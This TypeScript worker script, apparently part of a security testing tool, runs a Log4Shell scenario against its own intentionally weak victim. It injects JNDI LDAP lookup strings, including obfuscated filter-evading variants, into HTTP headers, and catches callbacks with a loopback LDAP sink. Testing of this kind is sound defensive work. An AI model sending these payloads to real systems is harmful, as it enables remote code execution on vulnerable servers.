/**
 * Sends lookups as user agents, and has the sink that the own victim calls back to: an LDAP server that takes every bind and nothing else.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import type { WorkerOptions } from '../scenario/worker.ts';
import { SINK_PORT, sinkAddress } from '../victim/weak-access.ts';
import { WEAK_PATHS } from '../victim/weak-paths.ts';
import { finish, lifetime, workerOptions } from './lifetime.ts';
import { assertWeak, weakKey } from './own-victim.ts';
import { type Ask, assertAnswered, type VisitorsOptions, visit } from './visitors.ts';

export interface Log4shellOptions extends WorkerOptions, VisitorsOptions {}

/** Success, to message 1 (RFC 4511, 4.2.2). */
const BIND_RESPONSE = Buffer.from('300c02010161070a010004000400', 'hex');
/** Loopback, whoever should look it up. */
const PLACE = '127.0.0.1:1389/kubevigil';
const LOOKUPS = [
  `\u0024{jndi:ldap://${PLACE}}`,
  `\u0024{\u0024{lower:j}ndi:\u0024{lower:l}dap://${PLACE}}`,
  `\u0024{\u0024{::-j}\u0024{::-n}\u0024{::-d}\u0024{::-i}:\u0024{::-l}dap://${PLACE}}`,
  `\u0024{jndi:\u0024{env:KUBEVIGIL:-ldap}://${PLACE}}`,
];

async function openSink(address: string): Promise<Server> {
  const sink = createServer((socket) => {
    socket.on('error', () => {}); // whoever called back is gone
    socket.once('data', () => socket.end(BIND_RESPONSE));
  });
  sink.listen(SINK_PORT, address);
  await once(sink, 'listening');
  return sink;
}

const options = workerOptions<Log4shellOptions>();
const { durationMs, target } = options;
const life = lifetime(durationMs);
const key = await weakKey(target, life);
const sink = key && (await openSink(sinkAddress(key.token)));
let turn = 0;
const tally = await visit(life, options, () => {
  const lookup = LOOKUPS[turn++ % LOOKUPS.length];
  const headers = { 'User-Agent': lookup, 'X-Api-Version': lookup };
  const ask: Ask = { path: WEAK_PATHS.logged, headers };
  return key?.open(ask) ?? ask;
});
sink?.close();
finish();
assertAnswered(target, tally);
if (key !== undefined) assertWeak(target, tally);
